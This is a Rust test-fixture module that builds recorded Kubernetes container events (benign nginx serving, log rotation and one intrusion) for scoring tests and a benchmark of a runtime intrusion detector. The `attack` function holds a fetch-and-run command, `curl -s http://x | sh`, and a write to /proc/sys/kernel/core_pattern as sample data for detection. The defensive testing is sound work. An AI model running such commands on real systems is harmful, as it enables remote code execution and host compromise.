//! Deterministic recorded scenarios shared by the scoring tests and the benchmark.

#![allow(
    dead_code,
    reason = "each test crate uses a different part of the scenarios"
)]

use std::collections::BTreeMap;

use detector::event::{
    Ancestor, Body, Connect, Container, Egress, Event, Exec, FileActivity, FileOperation, Lineage,
    Owner, Pod, ProcessFields, Role,
};
use time::OffsetDateTime;

/// 2024-05-01T00:00:00Z, the start of every scenario.
pub const T0_S: i64 = 1_714_521_600;
const NS: i64 = 1_000_000_000;
pub const SHIM: &str = "/usr/bin/containerd-shim-runc-v2";
pub const NGINX: &str = "/usr/sbin/nginx";

/// A small deterministic generator (64-bit LCG), so scenarios need no dependency.
pub struct Lcg(u64);

impl Lcg {
    pub fn new(seed: u64) -> Self {
        Self(seed ^ 0x9e37_79b9_7f4a_7c15)
    }

    /// Uniform in [0, 1).
    pub fn next_f64(&mut self) -> f64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 11) as f64 / (1u64 << 53) as f64
    }
}

/// One container of one pod, and the events it makes.
#[derive(Clone)]
pub struct Workload {
    pub pod: Pod,
    pub container: Container,
    pub cgroup_id: u64,
}

impl Workload {
    /// The `web` Deployment's nginx pod number `n`, in namespace `shop`.
    pub fn nginx(n: u32) -> Self {
        Self::new(
            n,
            "web",
            "nginx",
            "docker.io/library/nginx:1.27",
            1000 + u64::from(n) * 2,
        )
    }

    /// The log-rotation sidecar of the same pod.
    pub fn logrotate_sidecar(n: u32) -> Self {
        let mut w = Self::new(
            n,
            "web",
            "logrotate",
            "docker.io/blacklabelops/logrotate:1.3",
            1001 + u64::from(n) * 2,
        );
        w.pod = Self::nginx(n).pod;
        w
    }

    fn new(n: u32, app: &str, container: &str, image: &str, cgroup_id: u64) -> Self {
        let labels = BTreeMap::from([("app".to_owned(), app.to_owned())]);
        Self {
            pod: Pod {
                uid: format!("6c1f5a3e-0000-4000-8000-{n:012}"),
                namespace: Some("shop".into()),
                name: Some(format!("{app}-7f9c4d-{n:05}")),
                labels,
                owner: Some(Owner {
                    kind: "Deployment".into(),
                    name: app.into(),
                }),
                node: Some("worker-1".into()),
                qos: Some("burstable".into()),
                resolved: true,
            },
            container: Container {
                id: format!("{cgroup_id:064x}"),
                runtime: "containerd".into(),
                name: Some(container.into()),
                image: Some(image.into()),
            },
            cgroup_id,
        }
    }

    fn event(
        &self,
        t_ns: i64,
        pid: Option<u32>,
        comm: Option<&str>,
        ancestry: &[&str],
        body: Body,
    ) -> Event {
        Event {
            time: OffsetDateTime::from_unix_timestamp_nanos(i128::from(T0_S * NS + t_ns)).unwrap(),
            ktime_ns: 5 * NS as u64 + t_ns as u64,
            process: ProcessFields {
                pid,
                tid: pid,
                ppid: pid.map(|p| p.saturating_sub(1)),
                uid: pid.map(|_| 101),
                gid: pid.map(|_| 101),
                ns_pid: None,
                comm: comm.map(Into::into),
            },
            cgroup_id: Some(self.cgroup_id),
            container: Some(self.container.clone()),
            pod: Some(self.pod.clone()),
            ancestry: ancestry
                .iter()
                .enumerate()
                .map(|(i, exe)| Ancestor {
                    pid: 100 - i as u32,
                    exe: (*exe).into(),
                })
                .collect(),
            // What the process table gives a container's processes: the runtime starts the
            // entrypoint and the probes (the shim is their parent); the rest descend from them.
            lineage: pid.map(|_| Lineage {
                role: Role::Entrypoint,
                tty: false,
                leader: ancestry.first() == Some(&SHIM),
            }),
            body,
        }
    }

    pub fn exec(
        &self,
        t_ns: i64,
        pid: u32,
        filename: &str,
        argv: &[&str],
        ancestry: &[&str],
    ) -> Event {
        let comm = filename.rsplit('/').next().unwrap_or(filename);
        self.event(
            t_ns,
            Some(pid),
            Some(comm),
            ancestry,
            Body::Exec(Exec {
                filename: filename.into(),
                argv: argv.iter().map(|s| (*s).to_owned()).collect(),
                argv_truncated: false,
                filename_truncated: false,
                tty: false,
                parent_cgroup_id: None,
                fileless: false,
                stdin_socket: false,
                stdout_socket: false,
                deleted: false,
            }),
        )
    }

    /// A file event by process `(pid, comm)`.
    pub fn file(
        &self,
        t_ns: i64,
        (pid, comm): (u32, &str),
        op: FileOperation,
        path: &str,
        write: bool,
        target: Option<&str>,
    ) -> Event {
        let sensitive = ["/proc", "/dev", "/etc", "/bin", "/usr/bin"]
            .iter()
            .any(|p| path.starts_with(p));
        self.event(
            t_ns,
            Some(pid),
            Some(comm),
            &[SHIM],
            Body::File(FileActivity {
                op,
                path: path.into(),
                flags: if write { 0o1101 } else { 0 },
                write,
                sensitive: write && sensitive,
                read_sensitive: path.starts_with("/var/run/secrets"),
                relative: false,
                dirfd: None,
                path_truncated: false,
                target: target.map(Into::into),
                suppressed: 0,
                result: None,
                resolved: false,
                outside_root: false,
                joined: false,
                original_path: None,
                original_target: None,
                self_path: None,
                log: false,
                unresolved: false,
                io_uring: false,
            }),
        )
    }

    pub fn connect(
        &self,
        t_ns: i64,
        pid: u32,
        comm: &str,
        addr: &str,
        port: u16,
        protocol: &str,
    ) -> Event {
        self.event(
            t_ns,
            Some(pid),
            Some(comm),
            &[SHIM],
            Body::Connect(Connect {
                family: "ipv4".into(),
                protocol: protocol.into(),
                daddr: addr.parse().unwrap(),
                dport: port,
                blocked: false,
            }),
        )
    }

    pub fn egress(&self, t_ns: i64, bytes: u64, total: u64) -> Event {
        self.event(
            t_ns,
            None,
            None,
            &[],
            Body::Egress(Egress {
                bytes,
                packets: bytes / 1400 + 1,
                interval_ms: 1000,
                total_bytes: total,
            }),
        )
    }
}

/// Container start: the nginx image's entrypoint, its hook scripts, then nginx.
fn nginx_start(w: &Workload, t: i64) -> Vec<Event> {
    let entry = "/docker-entrypoint.sh";
    vec![
        w.exec(t, 1, entry, &[entry, "nginx", "-g", "daemon off;"], &[SHIM]),
        w.exec(
            t + 1_000_000,
            7,
            "/usr/bin/find",
            &["find", "/docker-entrypoint.d/", "-mindepth", "1"],
            &[entry, SHIM],
        ),
        w.exec(
            t + 2_000_000,
            8,
            "/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh",
            &["/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh"],
            &[entry, SHIM],
        ),
        w.exec(
            t + 3_000_000,
            9,
            "/docker-entrypoint.d/20-envsubst-on-templates.sh",
            &["/docker-entrypoint.d/20-envsubst-on-templates.sh"],
            &[entry, SHIM],
        ),
        w.file(
            t + 4_000_000,
            (9, "20-envsubst-on-"),
            FileOperation::Open,
            "/etc/nginx/conf.d/default.conf",
            true,
            None,
        ),
        w.exec(
            t + 5_000_000,
            1,
            NGINX,
            &["nginx", "-g", "daemon off;"],
            &[SHIM],
        ),
        w.file(
            t + 6_000_000,
            (1, "nginx"),
            FileOperation::Open,
            "/var/run/nginx.pid",
            true,
            None,
        ),
    ]
}

/// `hours` of an nginx pod serving (egress every second, page reads, access-log writes, DNS
/// and upstream connections, exec probes) with its log-rotation sidecar rotating hourly.
pub fn benign(n: u32, hours: i64, seed: u64) -> Vec<Event> {
    let w = Workload::nginx(n);
    let side = Workload::logrotate_sidecar(n);
    let mut rng = Lcg::new(seed);
    let mut events = nginx_start(&w, 0);
    events.push(side.exec(
        0,
        1,
        "/bin/sh",
        &[
            "sh",
            "-c",
            "while true; do logrotate /etc/logrotate.conf; sleep 3600; done",
        ],
        &[SHIM],
    ));
    let mut total = 0u64;
    let day = 86_400.0;
    for s in 1..hours * 3600 {
        let t = s * NS;
        // Diurnal traffic: 10 to 50 KB/s, noisy, with occasional bursts up to 3x.
        let phase = (s as f64 / day * std::f64::consts::TAU).sin();
        let burst = if rng.next_f64() < 0.01 { 3.0 } else { 1.0 };
        let bytes = (30_000.0 * (1.0 + 0.6 * phase) * (0.6 + 0.8 * rng.next_f64()) * burst) as u64;
        total += bytes;
        events.push(w.egress(t + 500_000_000, bytes, total));
        if s % 5 == 0 {
            let page = [
                "/usr/share/nginx/html/index.html",
                "/usr/share/nginx/html/app.js",
                "/usr/share/nginx/html/style.css",
            ][(s / 5 % 3) as usize];
            events.push(w.file(t, (30, "nginx"), FileOperation::Open, page, false, None));
        }
        if s % 10 == 0 {
            events.push(w.file(
                t + 1_000,
                (30, "nginx"),
                FileOperation::Open,
                "/var/log/nginx/access.log",
                true,
                None,
            ));
            events.push(w.exec(
                t + 2_000,
                900 + (s / 10 % 1000) as u32,
                "/bin/sh",
                &["sh", "-c", "test -f /var/run/nginx.pid"],
                &[SHIM],
            ));
        }
        if s % 60 == 0 {
            events.push(w.connect(t + 3_000, 30, "nginx", "10.96.0.10", 53, "udp"));
            events.push(w.connect(t + 4_000, 30, "nginx", "10.100.14.20", 8080, "tcp"));
        }
        if s % 3600 == 0 {
            events.extend(rotate(&side, t));
        }
    }
    events.sort_by_key(|e| e.time);
    events
}

/// One copytruncate rotation by the sidecar.
fn rotate(side: &Workload, t: i64) -> Vec<Event> {
    let log = "/var/log/nginx/access.log";
    let mut out = vec![
        side.exec(t, 40, "/bin/sleep", &["sleep", "3600"], &["/bin/sh", SHIM]),
        side.exec(
            t + 10_000,
            41,
            "/usr/sbin/logrotate",
            &["logrotate", "/etc/logrotate.conf"],
            &["/bin/sh", SHIM],
        ),
        side.file(
            t + 11_000,
            (41, "logrotate"),
            FileOperation::Unlink,
            "/var/log/nginx/access.log.5",
            false,
            None,
        ),
    ];
    for i in (1..5).rev() {
        let from = format!("{log}.{i}");
        let to = format!("{log}.{}", i + 1);
        out.push(side.file(
            t + 12_000 + i,
            (41, "logrotate"),
            FileOperation::Rename,
            &from,
            false,
            Some(&to),
        ));
    }
    out.push(side.file(
        t + 13_000,
        (41, "logrotate"),
        FileOperation::Open,
        log,
        false,
        None,
    ));
    out.push(side.file(
        t + 14_000,
        (41, "logrotate"),
        FileOperation::Open,
        &format!("{log}.1"),
        true,
        None,
    ));
    out.push(side.file(
        t + 15_000,
        (41, "logrotate"),
        FileOperation::Open,
        log,
        true,
        None,
    ));
    out.push(side.file(
        t + 16_000,
        (41, "logrotate"),
        FileOperation::Open,
        "/var/lib/logrotate.status",
        true,
        None,
    ));
    out
}

/// The seed's intrusion in pod `n`: ten minutes of serving, then nginx runs
/// `sh -c 'curl http://x | sh'`, and the fetched script writes under /proc/sys.
pub fn attack(n: u32) -> Vec<Event> {
    let w = Workload::nginx(n);
    let mut events = nginx_start(&w, 0);
    for s in 1..600 {
        events.push(w.egress(s * NS + 500_000_000, 20_000, 20_000 * s as u64));
    }
    let t = 600 * NS;
    let sh = "/bin/sh";
    events.extend([
        w.exec(
            t,
            200,
            sh,
            &["sh", "-c", "curl -s http://x | sh"],
            &[NGINX, SHIM],
        ),
        w.exec(
            t + 10_000_000,
            201,
            "/usr/bin/curl",
            &["curl", "-s", "http://x"],
            &[sh, NGINX, SHIM],
        ),
        w.connect(t + 11_000_000, 201, "curl", "203.0.113.7", 80, "tcp"),
        w.exec(t + 12_000_000, 202, sh, &["sh"], &[sh, NGINX, SHIM]),
        w.file(
            t + 50_000_000,
            (202, "sh"),
            FileOperation::Open,
            "/proc/sys/kernel/core_pattern",
            true,
            None,
        ),
    ]);
    events
}

/// A mix for throughput measurements: `pods` benign pods for `hours`, with one intrusion.
pub fn mix(pods: u32, hours: i64) -> Vec<Event> {
    let mut events: Vec<Event> = (0..pods)
        .flat_map(|n| benign(n, hours, u64::from(n)))
        .collect();
    events.extend(attack(pods));
    events.sort_by_key(|e| e.time);
    events
}
